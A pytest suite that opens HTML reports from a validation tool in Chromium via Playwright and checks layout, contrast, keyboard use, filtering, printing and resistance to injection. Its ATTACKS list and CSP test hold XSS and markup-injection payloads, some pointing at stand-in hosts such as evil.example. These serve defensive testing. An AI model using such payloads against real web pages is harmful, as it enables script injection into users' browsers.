"""The page in a real Chromium: it looks after itself, acts on nothing, and can be used."""

import os
import shutil
from dataclasses import replace

import pytest
from hostile_reports import NASTY, reports
from hypothesis import HealthCheck, Phase, given, settings
from playwright.sync_api import Error, sync_playwright
from report_samples import SAMPLES, compared, crowded, healthy, incident, probe, report, warned

from netra_validate.model import Change as Changed
from netra_validate.model import (
    Command,
    Comparison,
    DeclaredResource,
    Difference,
    Finding,
    Location,
    Outcome,
    Plane,
    Remediation,
    ResourceRef,
    RootCause,
    RuleText,
    Severity,
    Status,
)
from netra_validate.reports import Display, html

PHONE, DESK = 390, 1440

ARGUMENTS = [
    "--no-sandbox", "--disable-gpu", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", "--no-first-run",
]  # fmt: skip


@pytest.fixture(scope="module")
def browser():
    program = shutil.which("chromium") or shutil.which("chromium-browser")
    if program is None and not os.environ.get("CI"):
        pytest.skip("no Chromium is installed")
    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=program, args=ARGUMENTS)
        yield opened
        opened.close()


class Visit:
    """One look at a page, and what happened meanwhile."""

    def __init__(self, browser, file, **options):
        self.context = browser.new_context(**options)
        self.page = self.context.new_page()
        self.said, self.requests, self.loaded = [], [], []
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("requestfinished", lambda request: self.loaded.append(request.url))
        self.page.on("dialog", self._dismiss)
        self.address = file.as_uri()

    def _dismiss(self, dialog):
        self.said.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def open(self, place=""):
        self.page.goto(f"{self.address}{place}")
        return self.page

    def shown(self):
        """Ids of the probes that can be seen."""
        return set(
            self.page.evaluate(
                "[...document.querySelectorAll('[data-outcome][id]')]"
                ".filter((each) => each.checkVisibility()).map((each) => each.id)"
            )
        )


@pytest.fixture
def visit(browser, tmp_path):
    """Opens the page of a report."""
    visits = []

    def to(what, *, width=DESK, scheme="light", place="", **options):
        file = tmp_path / "report.html"
        file.write_text(html.render(what, Display()), encoding="utf-8", newline="\n")
        made = Visit(
            browser,
            file,
            viewport={"width": width, "height": 900},
            color_scheme=scheme,
            reduced_motion="reduce",
            **options,
        )
        visits.append(made)
        made.open(place)
        return made

    yield to
    for each in visits:
        each.context.close()


def wide(page):
    """By how much the page is wider than the window."""
    return page.evaluate(
        "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    )


@pytest.mark.parametrize("name", SAMPLES)
def test_a_page_needs_nothing_and_fits(visit, name):
    looked = visit(SAMPLES[name]())
    looked.page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true })")
    for width in (DESK, PHONE):
        looked.page.set_viewport_size({"width": width, "height": 800})
        assert wide(looked.page) <= 0
    assert looked.said == []
    assert looked.requests == [looked.address]


LONG = "n" * 300


def endless():
    """Names and words without a place to break them, everywhere."""
    ref = ResourceRef("k" * 300, LONG)
    found = Finding(
        f"c.{LONG}", Severity.ERROR, LONG, Location(f"{LONG}/{LONG}.py", 1), {LONG: LONG},
        Remediation(LONG, (Command((LONG, LONG)),), f"https://example.com/{LONG}"),
    )  # fmt: skip
    broken = replace(probe("c/x", Plane.DATA, "service", findings=(found,)), resource=ref,
                     id=f"{LONG}/{LONG}", observations={LONG: LONG})  # fmt: skip
    passed = replace(broken, outcome=Outcome.PASS, findings=(), id=f"p{LONG}")
    skipped = replace(broken, outcome=Outcome.SKIP, findings=(), id=f"s{LONG}", reason=LONG)
    return replace(
        report((broken, passed, skipped), Status.FAILED, 1, (RootCause(broken.id),), (LONG,)),
        environment=LONG, project=LONG, version=LONG,
        resources=(DeclaredResource(ref), DeclaredResource(ResourceRef("漢字" * 50, "漢字" * 50))),
        comparison=Comparison(
            LONG, report((), Status.PASSED, 0).started_at,
            (Difference(Changed.MENDED, LONG, LONG, LONG, location=Location(LONG)),),
        ),
    )  # fmt: skip


@pytest.mark.parametrize("width", [PHONE, DESK])
def test_endless_words_are_broken(visit, width):
    page = visit(endless(), width=width).page
    page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true })")
    assert wide(page) <= 0


@pytest.mark.parametrize("width", [PHONE, DESK])
@pytest.mark.parametrize("made", [incident, endless])
def test_names_stay_in_their_nodes(visit, made, width):
    page = visit(made(), width=width).page
    over = page.evaluate(
        """[...document.querySelectorAll('.node')].filter((node) => node.checkVisibility())
        .flatMap((node) => {
          const box = node.querySelector('.box').getBBox();
          return [...node.querySelectorAll('text')].map((text) => {
            const inner = text.getBBox();
            return inner.x + inner.width - box.x - box.width;
          });
        })"""
    )
    assert over
    assert max(over) <= 0


@pytest.mark.parametrize(("scheme", "is_dark"), [("light", False), ("dark", True)])
def test_the_page_follows_the_system_into_the_dark(visit, scheme, is_dark):
    page = visit(healthy(), scheme=scheme).page
    color = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (sum(map(int, color[4:-1].split(","))) < 200) is is_dark


CONTRASTS = """
() => {
  const parse = (color) => color.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b]
    .map((part) => part / 255)
    .map((part) => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4)
    .reduce((sum, part, at) => sum + part * [0.2126, 0.7152, 0.0722][at], 0);
  const ground = (element) => {
    for (let each = element; each; each = each.parentElement) {
      const color = parse(getComputedStyle(each).backgroundColor);
      if (color.length === 3 || color[3] > 0) return color;
    }
    return [255, 255, 255];
  };
  const low = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const element = walker.currentNode.parentElement;
    const unseen = !element.checkVisibility() || element.closest("svg, .unseen, script, style");
    if (!walker.currentNode.data.trim() || unseen) continue;
    const [one, other] = [parse(getComputedStyle(element).color), ground(element)].map(light);
    const ratio = (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05);
    if (ratio < 4.5) low.push([walker.currentNode.data, ratio]);
  }
  return low;
}
"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("made", [compared, warned])
def test_every_word_on_the_page_can_be_read(visit, made, scheme):
    page = visit(made(), scheme=scheme).page
    page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true })")
    page.click("[data-filter]")
    assert page.evaluate(CONTRASTS) == []


@pytest.mark.parametrize("width", [PHONE, DESK])
def test_the_picture_has_every_resource_once(visit, width):
    many = replace(
        incident(),
        resources=tuple(
            DeclaredResource(
                ResourceRef("service", f"s{number}"),
                (ResourceRef("service", f"s{(number * 7 + 1) % 300}"),),
            )
            for number in range(300)
        ),
    )
    for made in (incident(), many):
        page = visit(made, width=width).page
        visible = page.locator("svg.topology >> visible=true")
        assert visible.count() == 1
        assert visible.locator(".node").count() == len(made.resources)
        assert wide(page) <= 0


def test_a_resource_leads_to_its_probe(visit):
    looked = visit(incident())
    node = looked.page.locator("a.node.root >> visible=true")
    assert node.count() == 1
    assert "root cause" in node.get_attribute("aria-label")
    node.click()
    opened = looked.page.locator("details.probe[open]")
    assert opened.get_attribute("id") == "probe-vpc-connector-main"
    assert "is ERROR, expected READY" in opened.inner_text()


AWKWARD = ("sh", "-c", "echo '$HOME' \"x\"; <b>&amp;</b>", "", "two  spaces", "ü")


def commanding():
    remedy = Remediation("Do it.", (Command(AWKWARD),))
    found = Finding("c.r", Severity.ERROR, "it is broken", remediation=remedy)
    broken = probe("c/x", Plane.DATA, "service", findings=(found,))
    return report((broken,), Status.FAILED, 1, (RootCause("c/x"),))


QUOTED = """sh -c 'echo '"'"'$HOME'"'"' "x"; <b>&amp;</b>' '' 'two  spaces' 'ü'"""


def clipboard(looked):
    other = looked.context.new_page()
    other.goto(looked.address)
    other.bring_to_front()
    return other.evaluate("navigator.clipboard.readText()")


def test_a_button_copies_exactly_the_command(visit):
    looked = visit(commanding(), permissions=["clipboard-read", "clipboard-write"])
    button = looked.page.locator(".cause .copy")
    assert button.get_attribute("aria-label") == "Copy the command"
    button.click()
    looked.page.locator(".cause .copy", has_text="Copied").wait_for()
    assert clipboard(looked) == QUOTED


def test_a_button_copies_where_the_clipboard_is_not_to_be_had(visit):
    looked = visit(commanding(), permissions=["clipboard-read", "clipboard-write"])
    looked.page.evaluate("delete Navigator.prototype.clipboard")
    assert looked.page.evaluate("navigator.clipboard") is None
    looked.page.locator(".cause .copy").click()
    looked.page.locator(".cause .copy", has_text="Copied").wait_for()
    assert clipboard(looked) == QUOTED
    assert looked.page.locator("textarea").count() == 0


def expected(made, **wanted):
    """Anchors of the probes that a filter leaves."""
    return {
        f"probe-{result.id.replace('/', '-')}"
        for result in made.probes
        if all(getattr(result, key) in values for key, values in wanted.items())
    }


def test_the_filter_shows_what_was_asked_for(visit):
    made = incident()
    looked = visit(made)
    page = looked.page

    def button(value):
        return page.locator(f"[data-filter][data-value='{value}']")

    assert looked.shown() == expected(made)
    button("fail").click()
    assert looked.shown() == expected(made, outcome={Outcome.FAIL})
    assert page.locator("#shown").inner_text() == "4 of 8 shown"
    assert button("fail").get_attribute("aria-pressed") == "true"
    button("data").click()
    assert looked.shown() == expected(made, outcome={Outcome.FAIL}, plane={Plane.DATA})
    assert page.evaluate("location.hash") == "#outcome=fail&plane=data"
    button("skip").click()
    assert looked.shown() == expected(
        made, outcome={Outcome.FAIL, Outcome.SKIP}, plane={Plane.DATA}
    )
    assert not page.locator(".listing", has_text="what was seen").is_visible()
    page.click("#clear")
    assert looked.shown() == expected(made)
    assert page.locator("[aria-pressed=true]").count() == 0
    assert looked.said == []


@pytest.mark.parametrize("kind", ["outcome", "plane"])
def test_the_counts_of_the_filter_are_right(visit, kind):
    looked = visit(incident())
    for button in looked.page.locator(f"[data-filter={kind}]").all():
        button.click()
        assert len(looked.shown()) == int(button.locator(".count").inner_text())
        button.click()


def test_a_filtered_view_can_be_linked(visit):
    made = incident()
    looked = visit(made, place="#outcome=pass,skip&plane=source")
    assert looked.shown() == expected(
        made, outcome={Outcome.PASS, Outcome.SKIP}, plane={Plane.SOURCE}
    )
    looked.page.evaluate("location.hash = '#plane=control'")
    looked.page.locator("#shown", has_text="2 of 8 shown").wait_for()
    assert looked.shown() == expected(made, plane={Plane.CONTROL})
    looked.page.evaluate("location.hash = '#outcome=nonsense&x=<b>'")
    looked.page.locator("#shown", has_text="shown").wait_for(state="hidden")
    assert looked.shown() == expected(made)


def test_a_link_to_what_the_filter_hides_lifts_the_filter(visit):
    made = incident()
    looked = visit(made, place="#outcome=pass")
    looked.page.locator(".cause header a").click()
    looked.page.locator("#probe-vpc-connector-main[open]").wait_for()
    assert looked.shown() == expected(made)


def test_one_can_do_without_a_mouse(visit):
    page = visit(incident()).page
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip-link"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    page.focus("[data-value=fail]")
    page.keyboard.press("Space")
    assert page.locator("[data-value=fail]").get_attribute("aria-pressed") == "true"
    page.focus("details.probe > summary")
    page.keyboard.press("Enter")
    assert page.locator("details.probe[open]").count() == 1


def test_without_a_script_everything_is_there(visit):
    looked = visit(incident(), java_script_enabled=False)
    page = looked.page
    assert not page.locator("#filter").is_visible()
    assert page.locator(".copy").count() == 0
    assert page.locator("svg.topology >> visible=true").count() == 1
    page.locator("details.probe > summary").first.click()
    assert page.locator("details.probe .inside").first.is_visible()
    assert page.locator("details.probe").count() == 5


@pytest.mark.parametrize("script", [True, False])
def test_paper_shows_everything_in_the_light(visit, script):
    looked = visit(
        incident(), scheme="dark", java_script_enabled=script, place="#outcome=skip&plane=data"
    )
    page = looked.page
    page.emulate_media(media="print", color_scheme="dark")
    assert page.locator("tbody tr").count() == page.locator("tbody tr >> visible=true").count()
    for inside in page.locator("details.probe .inside").all():
        assert inside.is_visible()
        assert inside.bounding_box()["height"] > 20
    assert not page.locator("#filter").is_visible()
    assert page.locator(".copy >> visible=true").count() == 0
    grounds = [
        each.evaluate("(one) => getComputedStyle(one).backgroundColor")
        for each in (page.locator("body"), page.locator(".card").first)
    ] if script else []  # fmt: skip
    assert set(grounds) <= {"rgb(255, 255, 255)"}
    assert page.pdf(format="A4").startswith(b"%PDF")
    if script:
        assert page.locator("details[open]").count() == 0


ATTACKS = (
    "<script>window.pwned=1</script>", "</script><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>",
    "\"'><svg onload=window.pwned=1>", "' onmouseover='window.pwned=1' x='", "javascript:pwned=1",
    "{{ 7 * 7 }}{% raw %}", "<!--", "-->", "]]>", "</title><base href=//evil.example>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>", "&lt;b&gt;",
    "<details ontoggle=pwned=1 open>",
    "`<b>`", "${pwned=1}", "<style>@import url(//evil.example)</style>",
    "<a href=javascript:pwned=1>x",
    '" autofocus onfocus=pwned=1 x="', *map(chr, range(32)), "\x7f", "\x85", *NASTY,
)  # fmt: skip


def attacking():
    """A report with an attack in every place where a text can be."""
    probes = []
    for number, text in enumerate(ATTACKS):
        remedy = Remediation(text, (Command((text, text), undo=(text,)),), text)
        found = Finding(
            f"c.{text}", Severity.ERROR, f"{number} {text}", Location(text, 1), {text: text},
            remedy, fingerprint=text,
        )  # fmt: skip
        waived = replace(found, message=f"w {text}", waived=text)
        probes.append(
            replace(
                probe("c/x", Plane.DATA, "service", findings=(found, waived)),
                id=f"{number}/{text}",
                resource=ResourceRef(text, f"{number}{text}"),
                reason=text,
                observations={text: [text, {text: text}]},
                explained_by=(f"{number + 1}/{ATTACKS[(number + 1) % len(ATTACKS)]}",),
            )
        )
    refs = [each.resource for each in probes]
    differences = tuple(
        Difference(Changed.STILL_FAILING, each.id, text, text, None, text, Location(text))
        for each, text in zip(probes, ATTACKS, strict=True)
    )
    return replace(
        report(tuple(probes), Status.FAILED, 1, (RootCause(probes[0].id),), ATTACKS),
        environment="".join(ATTACKS[:20]), project=ATTACKS[1], region=ATTACKS[3],
        version=ATTACKS[3], comparison=Comparison(ATTACKS[2], incident().started_at, differences),
        rules=tuple(RuleText(f"c.{text}", Severity.ERROR, text, text) for text in ATTACKS[:20]),
        resources=tuple(DeclaredResource(ref, tuple(refs[:3])) for ref in refs),
    )  # fmt: skip


def harmless(looked):
    """Nothing was said, asked for or done, even when everything is opened and touched."""
    page = looked.page
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true })")
    page.evaluate(
        "document.querySelectorAll('*').forEach((each) => {"
        " for (const name of ['mouseover', 'focus', 'error', 'load', 'toggle'])"
        " each.dispatchEvent(new Event(name, {bubbles: true})) })"
    )
    assert page.evaluate("window.pwned") is None
    assert looked.said == []
    assert looked.requests == [looked.address]
    assert page.locator("script").count() == 1
    assert page.locator("iframe, img, base, object, embed, form").count() == 0


@pytest.mark.parametrize("width", [PHONE, DESK])
def test_an_attack_is_only_a_text(visit, width):
    looked = visit(attacking(), width=width)
    harmless(looked)
    assert wide(looked.page) <= 0
    text = looked.page.inner_text("body")
    for attack in ATTACKS[:3] + ATTACKS[12:14]:
        assert f" {attack}" in text
    assert looked.page.title().startswith("NOT FIT: <script>window.pwned=1</script></script>")
    addresses = looked.page.evaluate(
        "[...document.querySelectorAll('a')].map((each) => each.getAttribute('href'))"
    )
    assert all(address.startswith("#") for address in addresses)


@given(reports())
@settings(
    max_examples=4, deadline=None, derandomize=True, phases=[Phase.generate],
    suppress_health_check=list(HealthCheck),
)  # fmt: skip
def test_a_report_from_a_stranger_does_no_harm(visit, hostile):
    looked = visit(hostile, width=PHONE)
    harmless(looked)
    assert wide(looked.page) <= 0
    looked.context.close()


def test_the_policy_holds_even_if_markup_got_through(visit):
    looked = visit(healthy())
    looked.page.evaluate(
        "document.body.insertAdjacentHTML('beforeend',"
        ' \'<img src="https://evil.invalid/x.png" onerror="window.pwned=1">'
        '<p id=styled style="position:fixed">x</p>\')'
    )
    looked.page.evaluate(
        "() => { const one = document.createElement('script'); one.textContent = 'window.pwned=1';"
        " document.body.append(one) }"
    )
    with pytest.raises(Error, match="Content Security Policy"):
        looked.page.add_script_tag(url="https://evil.invalid/x.js")
    assert looked.page.evaluate("window.pwned") is None
    style = looked.page.evaluate("getComputedStyle(document.getElementById('styled')).position")
    assert style == "static"
    assert looked.loaded == [looked.address]
    assert sum("Content Security Policy" in said for said in looked.said) >= 3


def test_ten_thousand_findings_open_like_any_page(visit):
    looked = visit(crowded(10_000), width=PHONE)
    page = looked.page
    assert page.evaluate("document.querySelectorAll('*').length") < 4_000
    timing = page.evaluate("performance.getEntriesByType('navigation')[0].toJSON()")
    assert timing["domContentLoadedEventEnd"] - timing["responseEnd"] < 5_000
    assert "10 000 findings" in page.inner_text(".cause")
    assert looked.said == []
